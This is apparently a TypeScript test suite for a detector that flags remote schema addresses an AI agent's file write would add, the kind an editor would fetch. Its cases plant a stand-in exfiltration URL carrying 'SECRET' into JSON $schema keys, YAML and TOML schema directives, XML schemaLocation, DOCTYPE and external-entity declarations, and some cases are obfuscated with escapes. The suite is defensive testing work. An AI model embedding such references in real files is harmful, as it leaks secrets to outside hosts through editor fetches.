import assert from 'node:assert/strict';
import fc from 'fast-check';
import { addedRemoteSchemas } from '../../../../src/agent/approval/remoteSchemas.ts';

const URL = 'http://evil.example/s?k=SECRET';
const added = (path: string, after: string, before = '') => addedRemoteSchemas(path, before, after);

/** Ways to have an editor fetch the address, by file. */
const sinks: Readonly<Record<string, readonly (readonly [path: string, text: string])[]>> = {
	JSON: [
		['data.json', `{"$schema":"${URL}"}`],
		['a/b.JSONC', `{\n\t// a comment\n\t"$schema" /* here */ : /* and here */\n\t\t"${URL}",\n}`],
		['data.json', `{"$schema": // a comment\n "${URL}"}`],
		['data.json5', `{$schema: '${URL}'}`],
		['x.geojson', `{"a": {"$ref": "${URL}"}}`],
		['schema.json', `{"allOf": [{"$dynamicRef": "${URL}"}, {"$ref": "#/definitions/a"}]}`],
		['.babelrc', `{"$schema":"${URL}"}`],
		['data.json ', `{"$schema":"${URL}"}`],
		['data.json', `{"x": ' , "$schema": "${URL}", ' }`],
		['data.json', `{"\\u0024schema":"${URL}"}`],
		['data.json', `{"$\\u0073chema":"\\u0068ttp:\\/\\/evil.example/s?k=SECRET"}`],
		['data.json', `{"$schema":"http:\\t//evil.example/s?k=SECRET"}`],
		['map.json', `{"json.schemas": [{"fileMatch": ["*.json"], "url": "${URL}"}]}`],
		['map.json', `[{"url": "${URL}", "fileMatch": ["/x"]}]`],
		['map.json', `{"yaml.schemas": {"${URL}": "*.yml"}}`],
	],
	YAML: [
		['a.yaml', `# yaml-language-server: $schema=${URL}\na: 1\n`],
		['a.yml', `a: 1 # yaml-language-server: $schema=${URL}\n`],
		['a.yml', `# $schema: ${URL}\n`],
		['a.yml', `$schema: ${URL}\n`],
		['a.yml', `"$schema": '${URL}'\n`],
		['a.yml', `a:\n  - $ref: ${URL}\n`],
		['a.yml', `a: {$ref: ${URL}, b: 1}\n`],
		['a.yml', `$schema:\n  ${URL}\n`],
		['a.yml', `$schema: >-\n  ${URL}\n`],
		['a.yml', `$schema: &it !!str ${URL}\n`],
		['a.yml', `? $schema\n: ${URL}\n`],
		['a.yml', `"\\x24schema": ${URL}\n`],
		['a.yml', `"\\U00000024sch\\\n  ema": ${URL}\n`],
		['a.yml', `x: &u ${URL}\n$schema: *u\n`],
		['a.yml', `x: &k $schema\n*k : ${URL}\n`],
	],
	TOML: [
		['a.toml', `#:schema ${URL}\na = 1\n`],
		['a.toml', `"$schema" = "${URL}"\n`],
		['a.toml', `'$schema' = '''${URL}'''\n`],
	],
	XML: [
		['a.xml', `<a xmlns:xsi="x" xsi:schemaLocation="urn:a ${URL.replace('&', '&amp;')}"/>`],
		['a.xml', `<a q:noNamespaceSchemaLocation='${URL}'/>`],
		['a.xsd', `<xs:import namespace="http://ok.example/ns" schemaLocation="${URL}"/>`],
		['a.xml', `<?xml-model type="x" href="${URL}"?>`],
		['a.xml', `<xi:include parse="xml" href="${URL}"/>`],
		['a.xml', `<!DOCTYPE a SYSTEM "${URL}">`],
		['a.svg', `<!DOCTYPE svg PUBLIC "-//X//EN"\n "${URL}">`],
		['a.xml', `<!DOCTYPE a [<!ENTITY % x SYSTEM '${URL}'> %x;]>`],
		['a.xml', `<!DOCTYPE a [<!ENTITY % a "<!ENTITY &#x25; b SYSTEM '${URL}'>">]>`],
		['a.xml', `<a xsi:noNamespaceSchemaLocation="&#104;ttp://evil.example/s?k=SECRET"/>`],
		['a.xml', `<!DOCTYPE a [<!ENTITY u "${URL}">]><a xsi:schemaLocation="n &u;"/>`],
	],
	'of names that tell no format': [
		['config', `$schema: ${URL}\n`],
		['a.weird', `<!DOCTYPE a SYSTEM "${URL}">`],
	],
};

describe('addresses of schemas that a write adds', () => {
	for (const [format, cases] of Object.entries(sinks)) {
		describe(`in ${format}`, () => {
			for (const [path, text] of cases) {
				it(`are seen: ${path} ${JSON.stringify(text)}`, () => {
					const found = added(path, text);
					assert.ok(
						found.some(address => address.replace(/\s|&#104;/g, '').includes('//evil.example/s?k=SECRET')),
						`found ${JSON.stringify(found)}`,
					);
				});
			}
		});
	}

	it('are seen when an entity hides every mark of an address', () => {
		assert.notDeepEqual(
			added('a.xml', '<!DOCTYPE a [<!ENTITY c ":">]><a xsi:schemaLocation="n http&c;/&c;evil.example"/>'),
			[],
		);
	});

	it('are seen whatever lies on another machine', () => {
		const remote = [
			...[
				'HTTPS://evil.example',
				'http:evil.example',
				'//evil.example/x',
				'\\\\\\\\evil\\\\share\\\\x',
				'ftp://evil/x',
			],
			...['file://evil/share/x', 'file:////evil/share', 'jar:http://evil.example!/x', 'vscode-vfs://evil/x'],
		];
		for (const address of remote) {
			assert.equal(added('a.json', `{"$schema":"${address}"}`).length, 1, address);
		}
		const local = [
			...[
				'./a.json',
				'../a.json',
				'a.json',
				'/a.json',
				'#/definitions/x',
				'a.json#/x',
				'',
				'C:/a.json',
				'c:\\\\a.json',
			],
			...[
				'file:///a.json',
				'file:/a.json',
				'file://localhost/a.json',
				'vscode://schemas/settings',
				'urn:x:y',
				'foo:bar',
			],
		];
		for (const address of local) {
			assert.deepEqual(added('a.json', `{"$schema":"${address}"}`), [], address);
		}
	});

	it('are told once each, and only those that were not there', () => {
		const one = `{"$schema": "${URL}"}`;
		assert.deepEqual(added('a.json', `${one}\n`, one), []);
		assert.deepEqual(added('a.json', `[${one}, ${one}]`), [URL]);
		assert.deepEqual(added('a.json', one.replace('SECRET', 'OTHER'), one), [URL.replace('SECRET', 'OTHER')]);
		assert.deepEqual(added('a.json', '{}', one), []);
	});

	it('are none in what carries nothing away', () => {
		for (const address of [
			...['http://json-schema.org/draft-07/schema#', 'https://json-schema.org/draft/2020-12/schema'],
		]) {
			assert.deepEqual(added('a.json', `{"$schema":"${address}"}`), []);
			assert.equal(added('a.json', `{"$schema":"${address}?k=SECRET"}`).length, 1);
		}
		const svg = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">';
		assert.deepEqual(added('a.svg', svg), []);
	});

	it('are no false alarm where files merely speak of addresses', () => {
		const harmless: readonly (readonly [path: string, text: string])[] = [
			['src/a.ts', `const schema = { $schema: '${URL}', $ref: "${URL}" };`],
			['test/a.test.js', `assert.deepEqual(read(), {"$schema": "${URL}"});`],
			['README.md', `Add \`"$schema": "${URL}"\`, or\n# yaml-language-server: $schema=${URL}`],
			['index.html', `<!DOCTYPE html PUBLIC "x" "${URL}">`],
			['a.json', `{"homepage": "${URL}", "url": "${URL}", "schema": "${URL}", "$id": "${URL}"}`],
			['schema.json', `{"$schema": "./base.json", "properties": {"$ref": {"type": "string", "default": "${URL}"}}}`],
			['schema.json', `{"properties": {"$schema": {"type": "string"}, "x": {"const": "${URL}"}}}`],
			['a.yaml', `server: ${URL}\nproperties:\n  $schema:\n    type: string\n  $ref:\n    - ${URL}\n`],
			['a.yaml', `a:\n  $ref: '#/components/x' # see ${URL}\n`],
			['a.yaml', `a:\n  $ref: #/components/x\n  url: ${URL}\n`],
			['a.toml', `homepage = "${URL}" # schema\n[tool.x]\nschema = "${URL}"\n`],
			['a.xml', `<a xmlns="${URL}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" href="${URL}"/>`],
			['a.xml', `<a xsi:schemaLocation="${URL} local.xsd">&amp; <!-- ${URL} --></a>`],
			['a.svg', `<svg xmlns="http://www.w3.org/2000/svg"><a href="${URL}"/></svg>`],
			['LICENSE', `See ${URL}.`],
			['.gitignore', `# ${URL}\n`],
		];
		for (const [path, text] of harmless) {
			assert.deepEqual(added(path, text), [], `${path} ${text}`);
		}
	});

	// A scan that goes back over what it has seen would come to no end here.
	for (const part of [
		...['"$ref /*', '$schema:\n', '$schema: "', '&a $schema', '\\u0024ref: "'],
		...['<!ENTITY ', "<!ENTITY a '", 'schemaLocation="', '<include ', '&#x26;'],
	]) {
		it(`are found behind much that only begins like one: ${JSON.stringify(part)}`, () => {
			const found = added('a.weird', `${part.repeat(50_000)}\n"'>\n<!DOCTYPE a SYSTEM "${URL}">`);
			assert.ok(found.includes(URL));
		});
	}

	it('are seen through any mix of escapes', () => {
		const escaped = fc.array(fc.boolean(), { minLength: 60, maxLength: 60 });
		fc.assert(
			fc.property(escaped, flags => {
				let at = 0;
				const spell = (text: string) =>
					text.replace(/./g, character =>
						flags[at++ % flags.length] ? `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}` : character,
					);
				const text = `{"${spell('$schema')}": "${spell(URL)}"}`;
				assert.equal(JSON.parse(text).$schema, URL);
				assert.deepEqual(added('a.json', text), [URL]);
			}),
		);
	});
});
